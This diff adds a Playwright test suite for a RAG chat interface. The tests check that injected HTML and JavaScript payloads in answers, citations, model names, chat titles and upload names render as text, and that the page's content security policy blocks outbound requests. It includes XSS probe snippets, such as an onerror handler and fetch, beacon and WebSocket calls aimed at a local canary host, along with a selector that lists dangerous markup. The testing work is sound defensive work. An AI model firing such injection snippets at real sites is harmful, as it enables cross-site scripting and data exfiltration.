@@ -1,0 +1,497 @@
+"""Whatever stands in an article, an answer, a question or a name is text on the page, and no more.
+
+The first tests have the browser's policy switched off, so that they look at the drawing alone. The
+last ones have it on, and look at what it refuses.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import subprocess
+import sys
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+from canary import Canary
+from fake_openai import FakeOpenAI
+from payloads import list_names, list_payloads
+from playwright.sync_api import Browser, BrowserContext, Locator, Page, expect
+from poisoned import CHAT, QUESTION, build_home, list_sentences, pack, squeeze
+from running_chat import (
+    ask,
+    find_free_port,
+    open_shelf,
+    serve_chat,
+    wait_until_up,
+)
+
+from rag.types import REFUSAL
+
+pytestmark = pytest.mark.browser
+
+TINY = "openai:tiny-1"
+#: What a drawing of the page never has in it; its own search fields are the only inputs.
+MARKUP = (
+    ".dateline :is(img, picture, source, svg, math, a, area, script, iframe, frame, object, embed,"
+    " video, audio, track, link, style, base, meta, form, table, marquee, noscript, template,"
+    " input:not(.search), [style*=url], [onerror], [onload], [src], [href], [srcset], [background],"
+    " [action], [ping], [poster])"
+)
+#: What the page of all drawings has.
+SURFACES = (
+    "suggestion failure mend notice code unkept where trouble file-0 reason-0 job-note removed"
+    " title outlet author url quote quoted checked unsupported lead why passage note system user"
+    " engine searched question scope problem hint"
+).split()
+TAKE_FOR_MARKUP = """texts => {
+    for (const text of texts) {
+        const box = document.createElement("div");
+        box.className = "dateline";
+        box.innerHTML = text;
+        document.body.append(box);
+    }
+}"""
+#: What a browser asks for at the least when these are taken for markup.
+FETCHED = "img img-unquoted img-srcset picture iframe object embed stylesheet style-import".split()
+#: Payloads that an answer of the real program shows in a field at the least; the page of all
+#: drawings shows every one.
+ENOUGH = 36
+
+
+@dataclass
+class Watched:
+    """A page of whose doings everything is noted."""
+
+    page: Page
+    address: str
+    canary: Canary
+    asked: list[str] = field(default_factory=list)
+    dialogs: list[str] = field(default_factory=list)
+
+    def check(self) -> None:
+        """Nothing that was drawn so far has done anything."""
+        self.page.wait_for_timeout(150)
+        assert (self.canary.connections, self.canary.asked) == (0, [])
+        assert self.dialogs == []
+        assert self.page.evaluate("typeof window.pwned") == "undefined"
+        assert self.page.locator(MARKUP).count() == 0
+        own = (self.address, self.address.replace("http", "ws"), f"blob:{self.address}", "data:")
+        assert [url for url in self.asked if not url.startswith(own)] == []
+        assert len(self.page.context.pages) == 1
+
+    def shows(self, place: Locator, *texts: str) -> None:
+        """Each text stands there to be read."""
+        found = squeeze(" ".join(place.all_inner_texts()))
+        missing = [text for text in texts if squeeze(text) not in found]
+        assert not missing, missing[:3]
+
+
+def watch(context: BrowserContext, address: str, canary: Canary) -> Watched:
+    canary.forget()
+    watched = Watched(context.new_page(), address, canary)
+    context.on("request", lambda request: watched.asked.append(request.url))
+    watched.page.on("websocket", lambda socket: watched.asked.append(socket.url))
+    watched.page.on(
+        "dialog", lambda dialog: (watched.dialogs.append(dialog.message), dialog.dismiss())
+    )
+    return watched
+
+
+@pytest.fixture(scope="module")
+def names(canary: Canary) -> list[str]:
+    """Payloads that a model server's models are called."""
+    return [*list_names(canary.url, "model").values(), *pack(canary.url, "engine-name")[:3]]
+
+
+@pytest.fixture(scope="module")
+def poisoned(
+    tmp_path_factory: pytest.TempPathFactory, canary: Canary, model: FakeOpenAI, names: list[str]
+) -> Iterator[str]:
+    """The address of a chat over the poisoned library; its quotes engine shows nearly all."""
+    model.models = ["tiny-1", *names]
+    home = build_home(tmp_path_factory.mktemp("poisoned"), canary.url)
+    with serve_chat(home, DATELINE_BASE_URL=model.url, DATELINE_CONFIDENCE="0.1") as address:
+        yield address
+
+
+@pytest.fixture(scope="module")
+def bare(chromium: Browser, poisoned: str, canary: Canary) -> Iterator[Watched]:
+    """One page for all: the policy is switched off, so nothing but the drawing protects it."""
+    context = chromium.new_context(bypass_csp=True, viewport={"width": 1400, "height": 900})
+    watched = watch(context, poisoned, canary)
+    watched.page.goto(poisoned)
+    watched.page.get_by_test_id("stChatInputTextArea").wait_for(timeout=60_000)
+    yield watched
+    context.close()
+
+
+@pytest.fixture(autouse=True)
+def nothing_happened(request: pytest.FixtureRequest) -> Iterator[None]:
+    yield
+    if "bare" in request.fixturenames:
+        request.getfixturevalue("bare").check()
+
+
+def start_chat(page: Page, engine: str) -> None:
+    page.get_by_role("button", name="New chat").click()
+    page.locator(".exchange").first.wait_for(state="detached")
+    box = page.get_by_role("combobox", name="Answered by")
+    if box.input_value() != engine:
+        box.click()
+        page.get_by_role("option", name=engine, exact=True).click()
+
+
+def list_texts(canary: Canary, surface: str) -> list[str]:
+    return list(list_payloads(canary.url, surface).values())
+
+
+def test_the_watch_sees_what_it_is_there_for(chromium: Browser, canary: Canary):
+    context = chromium.new_context(bypass_csp=True)
+    watched = watch(context, "about:", canary)
+    # What leads the page away, or has its addresses mean others, would hide the rest.
+    texts = list_payloads(canary.url, "live")
+    texts = {name: text for name, text in texts.items() if name not in ("meta-refresh", "base")}
+    watched.page.evaluate(TAKE_FOR_MARKUP, list(texts.values()))
+    watched.page.wait_for_timeout(700)
+    paths = {line.split(" ")[1] for line in canary.asked}
+    assert {f"/live/{name}" for name in FETCHED} <= paths
+    assert watched.page.evaluate("window.pwned") == 1
+    assert watched.dialogs
+    assert watched.page.locator(MARKUP).count() > len(FETCHED)
+    context.close()
+    canary.forget()
+
+
+def test_questions_errors_scopes_and_titles_of_kept_chats_are_text(bare: Watched):
+    page = bare.page
+    page.goto(f"{bare.address}?chat={CHAT}")
+    rows = len(pack(bare.canary.url, "question"))
+    expect(page.locator(".exchange .problem")).to_have_count(rows, timeout=60_000)
+    for surface in ("question", "problem", "hint", "scope"):
+        bare.shows(page.locator(".exchange"), *list_texts(bare.canary, surface))
+    titles = page.get_by_role("list", name="Chats")
+    bare.shows(titles, *list_texts(bare.canary, "chat-title")[::2])
+    assert page.title() == "Dateline"
+
+
+def test_what_is_typed_and_quoted_is_text(bare: Watched):
+    page, canary = bare.page, bare.canary
+    start_chat(page, "quotes")
+    for packed in pack(canary.url, "typed")[:2]:
+        place = ask(page, f"{QUESTION} {packed}")
+        bare.shows(place.locator(".question"), packed)
+    place = ask(page, QUESTION)
+    assert place.locator(".quotation").count() > 0
+    shown = squeeze(place.locator(".sentences").first.inner_text())
+    assert any(squeeze(text) in shown for text in list_texts(canary, "body"))
+
+
+def test_a_model_s_answer_and_all_that_it_cites_are_text(bare: Watched, model: FakeOpenAI):
+    page, canary = bare.page, bare.canary
+    said = list_sentences(canary.url, "said")
+    model.say(*(f"{text} [{n % 10 + 1}]. " for n, text in enumerate(said)))
+    start_chat(page, TINY)
+    place = ask(page, QUESTION)
+    bare.shows(place.locator(".block .sentences"), *list_texts(canary, "said"))
+    cited = place.locator(".citation")
+    for surface in ("title", "author", "outlet", "url"):
+        shown = squeeze(" ".join(cited.all_inner_texts()))
+        texts = [squeeze(text) for text in list_texts(canary, surface)]
+        assert sum(text in shown for text in texts) >= ENOUGH, surface
+    files = squeeze(" ".join(cited.locator(".file").all_inner_texts()))
+    assert sum(squeeze(name) in files for name in list_names(canary.url, "file").values()) >= 4
+    bare.check()
+
+
+def test_the_tip_the_panel_and_the_details_are_text(bare: Watched):
+    page, canary = bare.page, bare.canary
+    place = page.locator(".exchange").last
+    for marker in place.locator(".marker").all()[:3]:
+        marker.scroll_into_view_if_needed()
+        marker.hover()
+        assert squeeze(page.locator(".tip .quote").inner_text()) in squeeze(
+            " ".join(place.locator(".citation .quote").all_inner_texts())
+        )
+    bare.check()
+    shown = ""
+    for number in range(10):
+        place.locator(".marker").nth(number).click()
+        page.locator(".panel mark.meant").first.wait_for(timeout=30_000)
+        shown += squeeze(page.locator(".panel").inner_text())
+    for surface in ("title", "author", "outlet", "url", "body"):
+        texts = [squeeze(text) for text in list_texts(canary, surface)]
+        assert sum(text in shown for text in texts) >= ENOUGH, surface
+    page.get_by_role("button", name="Close the article").click()
+    place.get_by_role("button", name="How it came about").click()
+    details = place.get_by_role("region", name="How the answer came about")
+    details.wait_for()
+    for summary in details.locator("summary").all():
+        summary.click()
+    given = squeeze(" ".join(details.locator(".prompt").all_inner_texts()))
+    for surface in ("title", "outlet", "body"):
+        texts = [squeeze(text) for text in list_texts(canary, surface)]
+        assert sum(text in given for text in texts) >= ENOUGH // 2, surface
+    assert details.locator(".ranked").count() == 10
+
+
+def test_the_nearest_passages_of_a_refusal_are_text(bare: Watched, model: FakeOpenAI):
+    page = bare.page
+    model.say(REFUSAL)
+    start_chat(page, TINY)
+    place = ask(page, QUESTION)
+    place.locator(".nearest > summary").click()
+    nearest = place.locator(".passage")
+    expect(nearest).to_have_count(5)
+    shown = squeeze(" ".join(nearest.all_inner_texts()))
+    for surface in ("title", "outlet", "body"):
+        assert any(squeeze(text) in shown for text in list_texts(bare.canary, surface))
+
+
+def test_a_model_s_name_and_its_server_s_errors_are_text(
+    bare: Watched, model: FakeOpenAI, names: list[str]
+):
+    page, canary = bare.page, bare.canary
+    page.get_by_role("combobox", name="Answered by").click()
+    options = page.get_by_role("listbox")
+    bare.shows(options, *names[:4])
+    page.keyboard.press("Escape")
+    body = pack(canary.url, "error")[0]
+    for number, (name, status) in enumerate(zip(names, (500, 404, 200, 401), strict=False)):
+        model.say(status=status, body=f"<html>{body}</html>")
+        start_chat(page, f"openai:{name}")
+        place = ask(page, f"{QUESTION[:-1]} on day {number}?")
+        expect(place.locator(".problem")).to_be_visible()
+        expect(page.get_by_role("combobox", name="Answered by")).to_have_value(f"openai:{name}")
+        if status == 404:
+            bare.shows(place.locator(".problem"), name)
+        bare.check()
+    model.say(f"{list_sentences(canary.url, 'timed')[0]} [1].")
+    page.get_by_role("button", name="Answer it again").last.click()
+    expect(page.locator(".timing").last).to_be_visible()
+    bare.shows(page.locator(".timing").last, names[3])
+
+
+def test_outlets_in_the_filter_and_in_the_scope_are_text(bare: Watched):
+    page = bare.page
+    start_chat(page, "quotes")
+    outlets = pack(bare.canary.url, "outlet")
+    page.get_by_role("combobox", name="Outlets").click()
+    options = page.get_by_role("option")
+    options.first.wait_for()
+    chosen = options.first.inner_text()
+    assert any(squeeze(outlet) == squeeze(chosen) for outlet in outlets)
+    options.first.click()
+    page.keyboard.press("Escape")
+    tag = page.get_by_test_id("stMultiSelect")
+    assert squeeze(chosen) in squeeze(tag.inner_html().replace("&lt;", "<").replace("&gt;", ">"))
+    place = ask(page, QUESTION)
+    bare.shows(place.locator(".scope"), chosen)
+    bare.check()
+    page.get_by_role("button", name="Clear all").first.click()
+
+
+def test_chats_renamed_to_searched_for_and_deleted_as_a_payload_are_text(bare: Watched):
+    page = bare.page
+    title = list_payloads(bare.canary.url, "renamed")["img-after-quote"]
+    chats = page.get_by_role("list", name="Chats")
+    entry = chats.get_by_role("listitem").first
+    entry.hover()
+    entry.get_by_role("button", name=re.compile("^Rename")).click()
+    page.get_by_label("New name of the chat").fill(title)
+    page.get_by_label("New name of the chat").press("Enter")
+    expect(chats.get_by_text(title, exact=True)).to_be_visible()
+    page.get_by_label("Search the chats").fill(title)
+    expect(chats.get_by_role("listitem")).to_have_count(1)
+    bare.check()
+    chats.get_by_role("listitem").first.hover()
+    chats.get_by_role("button", name=re.compile("^Delete")).click()
+    expect(page.locator(".undo")).to_contain_text(f"Deleted: {title}")
+    page.get_by_role("button", name="Undo").click()
+    page.get_by_label("Search the chats").fill("")
+
+
+def test_the_list_of_articles_and_what_was_removed_are_text(bare: Watched):
+    page = bare.page
+    articles = open_shelf(page)
+    shown = squeeze(articles.inner_text())
+    texts = [squeeze(text) for text in list_texts(bare.canary, "only-title")]
+    assert sum(text in shown for text in texts) > 30
+    bare.check()
+    first = articles.get_by_role("listitem").first
+    title = first.locator(".title").inner_text()
+    first.hover()
+    first.get_by_role("button", name=re.compile("^Remove")).click()
+    expect(page.locator(".undo").first).to_contain_text("Removed: ", timeout=30_000)
+    bare.shows(page.locator(".undo"), title)
+    search = page.get_by_label("Search the articles")
+    search.fill(list_payloads(bare.canary.url, "only-title")["picture"])
+    expect(articles.get_by_role("listitem")).to_have_count(1)
+
+
+def test_names_of_uploaded_files_are_text(bare: Watched):
+    page = bare.page
+    page.goto(bare.address)
+    open_shelf(page)
+    field = page.get_by_test_id("stFileUploaderDropzoneInput")
+    names = list(list_names(bare.canary.url, "upload").values())
+    files = [
+        (f"{name}.txt", b"" if n % 2 else b"It rained in Orm.") for n, name in enumerate(names)
+    ]
+    field.set_input_files(
+        [{"name": name, "mimeType": "text/plain", "buffer": data} for name, data in files]
+    )
+    job = page.locator(".job")
+    expect(job).to_contain_text("Not taken: ", timeout=30_000)
+    # What an upload is called on a disk has no angle brackets and no straight quotation marks.
+    bare.shows(job, *(name for name, data in files if not data and '"' not in name))
+    bare.check()
+    expect(page.get_by_test_id("stFileUploader")).not_to_contain_text(".txt ")
+    field.set_input_files([{"name": f"{names[0]}.exe", "mimeType": "text/plain", "buffer": b"x"}])
+    # The uploader shortens names in the middle.
+    expect(page.get_by_test_id("stFileUploader")).to_contain_text("<img sr")
+
+
+@pytest.fixture(scope="module")
+def drawn(canary: Canary, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """The address of the page that draws everything with payloads in it."""
+    port = find_free_port()
+    page = Path(__file__).parent / "poison_page.py"
+    argv = [sys.executable, "-m", "rag.ui.launch", str(page), "127.0.0.1", str(port)]
+    paths = [str(page.parents[2]), str(page.parent)]
+    env = os.environ | {"CANARY": canary.url, "PYTHONPATH": os.pathsep.join(paths)}
+    log = tmp_path_factory.mktemp("drawn") / "log"
+    with log.open("w") as out, subprocess.Popen(argv, stdout=out, stderr=out, env=env) as process:
+        try:
+            wait_until_up(port, process, log)
+            yield f"http://127.0.0.1:{port}"
+        finally:
+            process.terminate()
+
+
+def test_every_text_that_the_page_can_draw_is_text(chromium: Browser, drawn: str, canary: Canary):
+    context = chromium.new_context(bypass_csp=True)
+    watched = watch(context, drawn, canary)
+    page = watched.page
+    page.goto(drawn)
+    expect(page.locator(".exchange .details")).to_be_visible(timeout=60_000)
+    expect(page.locator(".dateline:not(:empty)")).to_have_count(11)
+    for details in page.locator(".dateline details").all():
+        details.evaluate("details => { details.open = true }")
+    watched.shows(
+        page.locator(".dateline"),
+        *(text for surface in SURFACES for text in list_texts(canary, surface)),
+    )
+    watched.check()
+    context.close()
+
+
+#: Each asks the canary, by a way of its own; the last ones are what a script would do.
+TRIES = {
+    "img": "url => { document.body.append(Object.assign(new Image(), { src: url })) }",
+    "stylesheet": "url => { document.head.append("
+    "Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })) }",
+    "script": "url => { document.head.append("
+    "Object.assign(document.createElement('script'), { src: url })) }",
+    "iframe": "url => { document.body.append("
+    "Object.assign(document.createElement('iframe'), { src: url })) }",
+    "object": "url => { document.body.append("
+    "Object.assign(document.createElement('object'), { data: url })) }",
+    "video": "url => { document.body.append("
+    "Object.assign(document.createElement('video'), { src: url, poster: url })) }",
+    "style": "url => { document.body.style.backgroundImage = `url(${url})` }",
+    "font": "url => { new FontFace('x', `url(${url})`).load().catch(() => 0) }",
+    "form": "url => { const form = Object.assign(document.createElement('form'), { action: url });"
+    " document.body.append(form); form.submit() }",
+    "markup": "url => { const box = document.createElement('div');"
+    " box.innerHTML = `<img src=${url}><svg><image href=${url} /></svg><embed src=${url}>`;"
+    " document.body.append(box) }",
+    "handler": "url => { const box = document.createElement('div');"
+    " box.innerHTML = '<img src=x: onerror=window.pwned=1>'; document.body.append(box) }",
+    "fetch": "url => fetch(url, { mode: 'no-cors' }).catch(() => 0)",
+    "post": "url => fetch(url, { method: 'POST' }).catch(() => 0)",
+    "beacon": "url => { navigator.sendBeacon(url, 'x') }",
+    "websocket": "url => { try { new WebSocket(url.replace('http', 'ws')) } catch { 0 } }",
+    "events": "url => { new EventSource(url) }",
+    "worker": "url => { try { new Worker(url) } catch { 0 } }",
+    "module": "url => import(url).catch(() => 0)",
+}
+
+#: Chromium opens a connection for a navigation before it looks at the policy; it says nothing.
+GUESSED = {"iframe", "form"}
+
+
+def test_the_policy_refuses_what_the_drawing_would_have_let_through(
+    chromium: Browser, poisoned: str, canary: Canary
+):
+    context = chromium.new_context()
+    watched = watch(context, poisoned, canary)
+    watched.page.goto(poisoned)
+    watched.page.get_by_test_id("stChatInputTextArea").wait_for(timeout=60_000)
+    for name in TRIES.keys() - GUESSED:
+        watched.page.evaluate(TRIES[name], f"{canary.url}/try/{name}")
+    watched.page.wait_for_timeout(700)
+    assert (canary.connections, canary.asked) == (0, [])
+    for name in GUESSED:
+        watched.page.evaluate(TRIES[name], f"{canary.url}/try/{name}")
+    watched.page.wait_for_timeout(700)
+    assert canary.asked == []
+    assert watched.page.evaluate("typeof window.pwned") == "undefined"
+    assert watched.page.url.startswith(poisoned)
+    context.close()
+
+
+def test_without_the_policy_the_same_would_come_through(
+    chromium: Browser, poisoned: str, canary: Canary
+):
+    context = chromium.new_context(bypass_csp=True)
+    watched = watch(context, poisoned, canary)
+    watched.page.goto(poisoned)
+    for name in ("img", "stylesheet", "script", "iframe", "fetch", "beacon", "websocket", "markup"):
+        watched.page.evaluate(TRIES[name], f"{canary.url}/try/{name}")
+    watched.page.wait_for_timeout(700)
+    assert len(canary.asked) >= 8
+    context.close()
+    canary.forget()
+
+
+#: Streamlit's library for long integers tries WebAssembly, and does without where it may not.
+FORGONE = ("script-src wasm-eval",)
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_a_chat_of_every_day_breaks_the_policy_nowhere(
+    chromium: Browser, poisoned: str, canary: Canary, model: FakeOpenAI, scheme: str
+):
+    context = chromium.new_context(color_scheme=scheme)  # type: ignore[arg-type]
+    context.add_init_script(
+        "window.refused = []; document.addEventListener('securitypolicyviolation',"
+        " event => window.refused.push(`${event.violatedDirective} ${event.blockedURI}`))"
+    )
+    watched = watch(context, poisoned, canary)
+    page = watched.page
+    complaints: list[str] = []
+    page.on("console", lambda said: complaints.append(said.text) if said.type == "error" else None)
+    page.goto(poisoned)
+    page.get_by_test_id("stChatInputTextArea").wait_for(timeout=60_000)
+    page.get_by_role("button", name="New chat").click()
+    place = ask(page, f"{QUESTION} In {scheme}?")
+    place.locator(".marker").first.click()
+    page.locator("mark.meant").first.wait_for(timeout=30_000)
+    page.get_by_role("button", name="Close the article").click()
+    page.get_by_role("group", name="Since").get_by_role("spinbutton").first.click()
+    page.get_by_test_id("stDateInput").first.get_by_role("button").first.click()
+    page.get_by_role("grid").first.wait_for()
+    page.keyboard.press("Escape")
+    open_shelf(page)
+    page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(
+        [{"name": "rain.txt", "mimeType": "text/plain", "buffer": f"Rain, {scheme}.".encode()}]
+    )
+    expect(page.locator(".job")).to_contain_text("1 added", timeout=30_000)
+    watched.check()
+    refused = [one for one in page.evaluate("window.refused") if one not in FORGONE]
+    assert refused == []
+    assert [text for text in complaints if "Content Security" in text and "WebAs" not in text] == []
+    context.close()
